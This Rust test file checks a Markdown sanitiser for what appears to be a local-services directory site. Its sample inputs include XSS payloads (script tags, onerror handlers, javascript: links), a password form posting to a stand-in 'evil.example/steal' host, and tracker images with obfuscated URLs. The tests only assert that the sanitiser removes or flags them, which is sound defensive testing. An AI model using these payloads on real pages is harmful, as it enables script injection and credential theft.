//! Tests of `markdown`.

use super::*;

/// Every `id="..."` in sanitised HTML.
fn ids_in(html: &str) -> Vec<&str> {
    let mut ids = Vec::new();
    for_each_attribute(html, |name, value, _| {
        if name == "id" {
            ids.push(value);
        }
    });
    ids
}

fn at(severity: Severity, line: usize, column: usize) -> (Severity, Option<Pos>) {
    (severity, Some(Pos::new(line, column)))
}

fn places(rendered: &Rendered) -> Vec<(Severity, Option<Pos>)> {
    let mut places: Vec<_> = rendered
        .problems
        .iter()
        .map(|p| (p.severity, p.pos))
        .collect();
    places.sort();
    places
}

#[test]
fn identical_headings_get_distinct_ids_counting_not_rescanning() {
    let html = render(&"# Same\n\n".repeat(3000));
    let ids: Vec<&str> = html
        .split(" id=\"")
        .skip(1)
        .filter_map(|rest| rest.split('"').next())
        .collect();
    assert_eq!(ids.len(), 3000);
    assert_eq!(
        ids.iter().collect::<HashSet<_>>().len(),
        3000,
        "all distinct"
    );
    assert_eq!((ids[0], ids[1], ids[2999]), ("same", "same-2", "same-3000"));

    // The work: one try per heading, and each id tried a bounded number of
    // times even when the editor has written the suffixed ones ("A 2" is
    // "a-2"). Trying every suffix from 2 again took 4.5 million tries here.
    let mut unique = Unique::default();
    for _ in 0..3000 {
        unique.make("same");
    }
    assert_eq!(unique.tries, 3000, "one try per heading");
    let mut unique = Unique::default();
    for n in 2..=1000 {
        unique.make(&format!("a-{n}"));
    }
    let made: Vec<String> = (0..1000).map(|_| unique.make("a")).collect();
    assert_eq!((made[0].as_str(), made[1].as_str()), ("a", "a-1001"));
    assert!(unique.tries <= 3 * 2000, "{} tries", unique.tries);
}

#[test]
fn deep_quotes_and_lists_stop_at_the_limit_and_keep_their_text() {
    let html = render(&format!("{}deepest words", "> ".repeat(1000)));
    assert_eq!(html.matches("<blockquote>").count(), MAX_NESTING, "{html}");
    assert!(html.contains("deepest words"));

    let html = render(&format!("{}deepest item", "- 1. ".repeat(500)));
    let lists = html.matches("<ul>").count() + html.matches("<ol>").count();
    assert_eq!(lists, MAX_NESTING, "{html}");
    assert!(html.contains("deepest item"));

    // Many lines, each one quote deeper.
    let stairs: String = (1..=40)
        .map(|n| format!("{}line {n}\n", "> ".repeat(n)))
        .collect();
    let html = render(&stairs);
    assert_eq!(html.matches("<blockquote>").count(), MAX_NESTING, "{html}");
    assert!(
        html.contains("line 1") && html.contains("line 40"),
        "{html}"
    );

    let html = render(&format!("{}x{}", "*a ".repeat(200), " b*".repeat(200)));
    assert_eq!(html.matches("<em>").count(), MAX_NESTING, "{html}");

    // Raw HTML nested too deep is shown as text, not parsed.
    let html = render(&format!("{}x", "<div>".repeat(1000)));
    assert!(!html.contains("<div>"), "{html}");
    assert!(html.contains("&lt;div&gt;x"), "{html}");
    let html = render(&format!("Some {}words", "<span><div></span>".repeat(100)));
    assert!(
        !html.contains("<div>"),
        "an end tag does not close past a <div>: {html}"
    );
}

#[test]
fn nesting_within_the_limit_is_left_alone() {
    for source in [
        format!("{}x", "> ".repeat(MAX_NESTING)),
        "<div><div><span>a</span></div></div>\n\n<ul><li>a<li>b<li>c</ul>\n".repeat(40),
        "<p>a<p>b<p>c<p>d\n".repeat(40),
    ] {
        let rendered = render_at(&source, Origin::Body { line: 1 });
        assert_eq!(rendered.problems, [], "{source}");
        assert!(!rendered.html.contains("&lt;"), "{}", rendered.html);
    }
}

#[test]
fn deep_nesting_is_a_warning_at_its_place() {
    let rendered = render_at(
        &format!("Intro.\n\n{}x\n\n{}y\n", "> ".repeat(30), "<b>".repeat(30)),
        Origin::Body { line: 7 },
    );
    // The 17th `>` on the body's third line; the 17th `<b>` on its fifth.
    assert_eq!(
        places(&rendered),
        [at(Severity::Warning, 9, 33), at(Severity::Warning, 11, 49)],
        "{:?}",
        rendered.problems
    );
}

#[test]
fn images_from_other_hosts_are_removed() {
    let html = render(
        "![a](https://evil.example/a.png) ![b](http://evil.example/b.png) ![c](//evil.example/c.png)\n\n\
         <img src=\"https://evil.example/d.png\"> <IMG SRC=//evil.example/e.png> <img src=' \\\\evil.example/f.png'>\n\n\
         <image src=\"https://evil.example/g.png\"> <img src=\"&#47;&#47;evil.example/h.png\"> <img src=\"https:evil.example/i.png\">\n\n\
         ![ok](images/map.png) <img src=\"../static/logo.png\" alt=\"Logo\">\n",
    );
    assert!(!html.contains("evil.example"), "{html}");
    assert!(html.contains("src=\"images/map.png\""), "{html}");
    assert!(html.contains("src=\"../static/logo.png\""), "{html}");
    // The description of an image refused stays, as text.
    assert!(html.contains("<p>a b c"), "{html}");
}

#[test]
fn images_from_other_hosts_are_errors_and_data_urls_warnings_at_their_place() {
    let rendered = render_at(
        "Hello.\n\n  ![tracker](https://evil.example/t.png)\n\n<p>\n<img\n  src=\"//evil.example/x\">\n</p>\n\n![inline](data:image/png;base64,AAAA) ![fine](a.png)\n",
        Origin::Body { line: 5 },
    );
    assert_eq!(
        places(&rendered),
        [
            at(Severity::Error, 7, 3),
            at(Severity::Error, 10, 1),
            at(Severity::Warning, 14, 1)
        ],
        "{:?}",
        rendered.problems
    );
    assert!(rendered.problems[0].message.contains("another host"));
    // A URL hidden from the scan is still removed, and still reported.
    let rendered = render_at(
        "<img src=\"&bsol;&bsol;evil.example/x\">",
        Origin::Body { line: 3 },
    );
    assert!(!rendered.html.contains("evil"), "{}", rendered.html);
    assert_eq!(places(&rendered), [at(Severity::Error, 3, 1)]);
    // Read as the parser reads it: the first `src` counts, and `<!-->`
    // is a whole comment.
    let rendered = render_at(
        "<img src=\"//evil.example/x\" src=\"a.png\"> <!--><img src=\"//evil.example/y\">-->",
        Origin::Body { line: 1 },
    );
    assert!(!rendered.html.contains("evil"), "{}", rendered.html);
    assert_eq!(
        places(&rendered),
        [at(Severity::Error, 1, 1), at(Severity::Error, 1, 47)]
    );
}

#[test]
fn image_sources_are_read_as_a_browser_reads_them() {
    use ImageSource::*;
    for (url, kind) in [
        ("a.png", Local),
        ("images/a b.png", Local),
        ("../static/a.png", Local),
        ("/static/a.png", Local),
        ("?x=1:2", Local),
        ("https://x.example/a.png", Remote),
        ("HTTP://x.example/a.png", Remote),
        ("//x.example/a.png", Remote),
        ("\\\\x.example/a.png", Remote),
        ("/\\x.example/a.png", Remote),
        ("/\t/x.example/a.png", Remote),
        (" \u{1}//x.example/a.png", Remote),
        ("https:x.example/a.png", Remote),
        ("ftp://x.example/a.png", Remote),
        ("data:image/png;base64,AA", Data),
        ("DATA:image/png,AA", Data),
    ] {
        assert_eq!(image_source(url), kind, "{url:?}");
    }
}

#[test]
fn form_controls_are_removed() {
    let html = render(
        "Log in to see your case:\n\n<form action=\"https://evil.example/steal\"><input type=password name=p>\
         <INPUT type=\"text\"><select><option>a</option></select><textarea>x</textarea><button>Go</button></form>\n\n\
         - [ ] a task\n- [x] done\n",
    );
    for bad in [
        "<form",
        "<input",
        "<select",
        "<textarea",
        "<button",
        "evil.example",
    ] {
        assert!(!html.contains(bad), "{bad} survived in {html}");
    }
    assert!(
        html.contains("☐ a task") && html.contains("☑ done"),
        "{html}"
    );
}

#[test]
fn form_controls_are_errors_at_their_place() {
    let rendered = render_at(
        "Text.\n\nWrite here: <input type=password>\n\n<form>\n<button>Go</button>\n</form>\n\n<script>x = '<input>'</script>\n",
        Origin::Body { line: 4 },
    );
    assert_eq!(
        places(&rendered),
        [
            at(Severity::Error, 6, 13),
            at(Severity::Error, 8, 1),
            at(Severity::Error, 9, 1)
        ],
        "{:?}",
        rendered.problems
    );
    assert!(rendered.problems[0].message.contains("<input>"));
    // In a step's text (a YAML field), the place is the field's.
    let rendered = render_at("<select></select>", Origin::Field(Pos::new(12, 11)));
    assert_eq!(places(&rendered), [at(Severity::Error, 12, 11)]);
}

#[test]
fn problems_beyond_the_limit_are_counted_on_one_line() {
    let rendered = render_at(&"<input>\n".repeat(100), Origin::Body { line: 1 });
    assert_eq!(rendered.problems.len(), MAX_PROBLEMS + 1);
    let last = &rendered.problems[MAX_PROBLEMS];
    assert!(last.message.contains("80 more"), "{}", last.message);
    assert_eq!(last.severity, Severity::Error);
}

#[test]
fn a_file_body_knows_its_first_line() {
    let text = "---\nname: A\nsummary: B\n---\nBody\n";
    let split = crate::source::split_front_matter(text).unwrap();
    let body = Markdown::file_body(text, split.body);
    assert_eq!(body.origin, Origin::Body { line: 5 });
}

#[test]
fn footnotes_and_headings_share_one_set_of_ids() {
    let html = render(
        "# Fn 1\n\nA[^note] and B[^2], again[^note].\n\n[^note]: First.\n[^2]: Second.\n\nSee [the top](#fn-1) and [where](#Where_To).\n\n## Go {#Where_To}\n",
    );
    let ids = ids_in(&html);
    assert_eq!(ids, ["fn-1", "fn-1-2", "fn-2", "where-to"], "{html}");
    assert!(
        html.contains("<a href=\"#fn-1-2\" rel=\"noopener noreferrer\">1</a>"),
        "{html}"
    );
    assert!(
        html.contains("<a href=\"#fn-2\" rel=\"noopener noreferrer\">2</a>"),
        "{html}"
    );
    assert!(
        html.contains("href=\"#where-to\""),
        "a link to an explicit id as written: {html}"
    );
}

#[test]
fn raw_html_ids_and_the_pages_own_are_not_taken() {
    let html =
        render("# Main\n\n<div id=\"main\">x</div><h2 id=\"steps\">y</h2>\n\n# Emergency label\n");
    assert_eq!(ids_in(&html), ["main-2", "emergency-label-2"], "{html}");
}

#[test]
fn prefixed_ids_keep_their_links() {
    let html = render(
        "# Top\n\nText[^1] and [up](#top), [elsewhere](#services), [out](https://x.example/#top).\n\n[^1]: A note.\n",
    );
    let prefixed = prefix_ids(&html, "service-a--");
    assert_eq!(ids_in(&prefixed), ["service-a--top", "service-a--fn-1"]);
    assert!(prefixed.contains("href=\"#service-a--fn-1\""), "{prefixed}");
    assert!(prefixed.contains("href=\"#service-a--top\""), "{prefixed}");
    assert!(
        prefixed.contains("href=\"#services\""),
        "not an id of the body: {prefixed}"
    );
    assert!(
        prefixed.contains("href=\"https://x.example/#top\""),
        "{prefixed}"
    );
    assert_eq!(
        prefix_ids("<p>id=\"x\" &lt;a id=\"y\"&gt;</p>", "p--"),
        "<p>id=\"x\" &lt;a id=\"y\"&gt;</p>"
    );
}

#[test]
fn prefixes_cannot_meet() {
    // Two bodies' ids are equal only if their prefixes are: an id of the
    // introduction holds no `--`, so cannot be `step-S--...`.
    assert_eq!(step_ids("a", "b"), "pathway-a--step-b--");
    assert!(!pathway_ids("a").ends_with("step-b--"));
    let intro = render("# Step b\n\n## Step b {#step-b--x}\n");
    for id in ids_in(&intro) {
        assert!(!id.contains("--"), "{id}");
    }
}

#[test]
fn site_reports_body_problems_at_their_place_in_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let write = |rel: &str, text: &str| {
        let path = dir.path().join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    write("content/site.yaml", "title: T\npublisher: P\n");
    write(
        "content/needs.yaml",
        "- slug: housing\n  name: Housing\n  description: D\n",
    );
    write(
        "content/areas/essex.yaml",
        "name: Essex\ncouncil: Essex County Council\n",
    );
    write(
        "content/services/a.md",
        "---\nname: A\norganisation: O\nsummary: S\nareas: [essex]\nneeds: [housing]\nreferral: [self]\n\
         contact:\n  phone: 01206 500585\nlast_reviewed: 2026-06-01\n---\n## About\n\n\
         See ![map](https://evil.example/map.png)\n\n<input type=password>\n",
    );
    write(
        "content/pathways/p.md",
        "---\ntitle: P\narea: essex\nsteps:\n  - id: one\n    title: One\n    text: <button>Go</button>\n---\nIntro.\n",
    );
    let options = crate::load::LoadOptions {
        drafts: false,
        today: time::Date::from_calendar_date(2026, time::Month::November, 24).unwrap(),
    };
    let (_, diags) = crate::site::load_site(dir.path(), &options);
    let lines: Vec<String> = diags.sorted().iter().map(ToString::to_string).collect();
    let found = |start: &str| lines.iter().any(|l| l.starts_with(start));
    assert!(
        found(
            "content/services/a.md:14:5: error: the image \"https://evil.example/map.png\" is on another host"
        ),
        "{lines:#?}"
    );
    assert!(
        found("content/services/a.md:16:1: error: a form control (<input>)"),
        "{lines:#?}"
    );
    assert!(
        found("content/pathways/p.md:7:11: error: a form control (<button>)"),
        "{lines:#?}"
    );
}

#[test]
fn demoting_headings_matches_the_simple_replacements() {
    // The one-pass version against the obvious one, on awkward input.
    fn by_replacing(html: &str, by: usize) -> String {
        let mut out = html.to_owned();
        for level in (2..=6).rev() {
            let to = (level + by).min(6);
            out = out
                .replace(&format!("<h{level}"), &format!("<h{to}"))
                .replace(&format!("</h{level}>"), &format!("</h{to}>"));
        }
        out
    }
    for html in [
        "<h2 id=\"a\">A</h2><p>x</p><h3>B</h3><h6>C</h6><h1>D</h1>",
        "<hr><h2>x</h2 ><h2</h2><</h5>é<h4>ü</h4><",
        "plain text",
        "",
        "<h2><h3><h4><h5><h6></h6></h5></h4></h3></h2>",
    ] {
        for by in 0..=5 {
            assert_eq!(
                demote_headings(html, by),
                by_replacing(html, by),
                "{html} by {by}"
            );
        }
    }
}

#[test]
fn renders_extensions() {
    let html = render(
        "## What we offer\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ \"quoted\"[^1]\n\n[^1]: A note.\n",
    );
    assert!(
        html.contains("<h2 id=\"what-we-offer\">What we offer</h2>"),
        "{html}"
    );
    assert!(html.contains("<table>"), "{html}");
    assert!(html.contains("<del>old</del>"), "{html}");
    assert!(html.contains("“quoted”"), "{html}");
    assert!(html.contains("footnote-definition"), "{html}");
}

#[test]
fn headings_start_at_h2_with_unique_ids() {
    let html = render("# Top\n\n## Sub\n\n# Top\n");
    assert!(html.contains("<h2 id=\"top\">Top</h2>"), "{html}");
    assert!(html.contains("<h3 id=\"sub\">Sub</h3>"), "{html}");
    assert!(html.contains("<h2 id=\"top-2\">Top</h2>"), "{html}");
}

#[test]
fn sanitises_raw_html() {
    let html = render(
        "<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe src=\"https://evil.example\"></iframe>\n\n\
         [a](javascript:alert(1)) [b](data:text/html,x) <a href=\"JaVaScRiPt:alert(1)\">c</a>\n\n<style>body{}</style>\n\n\
         <svg><script>alert(1)</script></svg>\n",
    );
    for bad in [
        "<script",
        "onerror",
        "<iframe",
        "javascript:",
        "JaVaScRiPt",
        "data:",
        "<style",
        "<svg",
        "alert(1)</script",
    ] {
        assert!(!html.contains(bad), "{bad} survived in {html}");
    }
}

#[test]
fn keeps_safe_links() {
    let html = render("[Call](tel:08082000247) [Web](https://example.org) [Mail](mailto:a@b.org)");
    assert!(html.contains("href=\"tel:08082000247\""), "{html}");
    assert!(html.contains("href=\"https://example.org\""), "{html}");
    assert!(html.contains("href=\"mailto:a@b.org\""), "{html}");
    assert!(html.contains("rel=\"noopener noreferrer\""), "{html}");
}

#[test]
fn template_syntax_in_markdown_is_just_text() {
    let html = render("{{ config }} {% include \"x\" %}");
    assert!(html.contains("{{ config }}"), "{html}");
}

#[test]
fn demotes_headings() {
    assert_eq!(
        demote_headings("<h2 id=\"a\">A</h2><h3>B</h3>", 2),
        "<h4 id=\"a\">A</h4><h5>B</h5>"
    );
    assert_eq!(
        demote_headings("<p>&lt;h2</p><h6>x</h6>", 2),
        "<p>&lt;h2</p><h6>x</h6>"
    );
}

#[test]
fn phone_numbers_and_text_codes_in_text_are_tappable() {
    let html = render(
        "Call 0808 2000 247, or 999 in an emergency. Samaritans: 116 123.\n\n\
         Text SHOUT to 85258 at any time.\n",
    );
    assert!(
        html.contains(r#"<a href="tel:08082000247" rel="noopener noreferrer">0808 2000 247</a>, or <a href="tel:999" rel="noopener noreferrer">999</a> in"#),
        "{html}"
    );
    assert!(html.contains(r#"<a href="tel:116123""#), "{html}");
    assert!(
        html.contains(
            r#"<a href="sms:85258?body=SHOUT" rel="noopener noreferrer">Text SHOUT to 85258</a> at"#
        ),
        "{html}"
    );
}

#[test]
fn numbers_in_links_and_code_stay_as_they_are() {
    let html = render(
        "[Call 0808 2000 247](tel:08082000247) and <a href=\"tel:999\">dial 999</a>.\n\n\
         `0808 2000 247` and ![map 999](map.png)\n\n\
         ```\n116 123\n```\n\n\
         After them, 116 123.\n",
    );
    assert_eq!(html.matches("href=\"tel:").count(), 3, "{html}");
    assert!(html.contains("<code>0808 2000 247</code>"), "{html}");
    assert!(html.contains("alt=\"map 999\""), "{html}");
    assert!(html.contains("<pre><code>116 123\n</code></pre>"), "{html}");
    assert!(
        html.contains(r#"<a href="tel:116123" rel="noopener noreferrer">116 123</a>."#),
        "{html}"
    );
}
